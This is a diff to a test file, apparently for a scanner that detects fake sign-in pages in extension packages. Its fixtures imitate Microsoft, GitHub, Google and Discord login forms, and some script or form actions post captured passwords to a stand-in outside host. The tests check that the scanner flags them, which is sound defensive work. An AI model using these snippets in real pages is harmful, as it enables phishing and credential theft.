@@ -34,11 +34,15 @@ test('frames of a server that nobody sees, and that get messages', () => {
 
 test('pages that pose as those on which people sign in elsewhere', () => {
   const form = (title: string) => `<h1>${title}</h1><form id="f"><input name="mail"><input name="password" type="password"><button>Next</button></form><script>f.onsubmit = () => host.postMessage(Object.fromEntries(new FormData(f)))</script>`;
-  for (const title of ['Sign in to Formula', 'Sign in to your Microsoft account', 'Log in to GitHub', 'Enter your Google password', 'Discord · Login']) assert.deepEqual(said(dataLeak, form(title)), ['high page.js'], title);
+  for (const title of ['Sign in to Formula', 'Sign in to your Microsoft account', 'Sign in to Microsoft 365', 'Log in to GitHub', 'Enter your Google password', 'Discord · Login']) assert.deepEqual(said(dataLeak, form(title)), ['high page.js'], title);
   assert.deepEqual(said(dataLeak, form('Sign in to VS Code'), 'vscode'), ['high page.js']);
   // The browser sends it.
   assert.deepEqual(findingsOf(dataLeak, { 'panel.html': '<h1>Sign in to Discord</h1><form action="https://in.neat-panels.dev/s" method="post"><input name="password" type="password"></form>' }).map(({ severity, file }) => `${severity} ${file}`), ['high panel.html']);
   assert.deepEqual(findingsOf(dataLeak, { 'panel.html': '<h1>Sign in to Discord</h1><form action="https://discord.com/login" method="post"><input name="password" type="password"></form>' }), []);
+  // The script that sends is what is started; the page that asks is named by nothing.
+  const asking = { 'ask.html': '<h2>Sign in to Microsoft 365</h2><input id="p" type="password"><script src="view.js"></script>', 'view.js': 'p.onchange = () => { const r = new XMLHttpRequest(); r.open("POST", "https://in.neat-panels.dev/s"); r.send(p.value) }' };
+  assert.deepEqual(findingsOf(dataLeak, asking, { entry_points: ['view.js'] }).map(({ severity, file }) => `${severity} ${file}`), ['high ask.html']);
+  assert.deepEqual(findingsOf(dataLeak, { ...asking, 'index.js': 'start()' }, { entry_points: ['index.js'] }).map(({ severity, file }) => `${severity} ${file}`), ['medium ask.html']);
   // Without a script in the page, which another script of the package listens to.
   assert.deepEqual(said(dataLeak, '<p>Your Formula session has expired.</p><form><input type="password" id="p"></form>'), ['high page.js']);
   assert.deepEqual(said(dataLeak, '<p>Your Microsoft 365 session has expired.</p><form><input type="password" id="p"></form>'), ['high page.js']);
